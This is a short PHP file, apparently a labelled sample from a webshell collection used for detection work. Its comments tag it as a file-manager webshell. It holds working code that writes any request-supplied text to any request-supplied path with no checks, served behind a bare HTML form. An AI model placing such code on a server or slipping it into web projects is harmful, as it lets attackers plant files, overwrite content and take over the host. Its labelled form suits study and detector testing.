<?php
// Family: webshell/file-manager
// Style: file editor whose path and text pass through variables and a handle
// Trait: a request path opened for writing, request text written to the handle
$where = isset($_POST['where']) ? $_POST['where'] : 'notes.txt';
$body = stripslashes($_POST['body']);
if ($body !== '') {
	$h = fopen($where, 'w');
	fwrite($h, $body);
	fclose($h);
	echo 'saved ' . strlen($body) . ' bytes';
}
echo '<form method="post"><input name="where"><textarea name="body"></textarea><input type="submit"></form>';
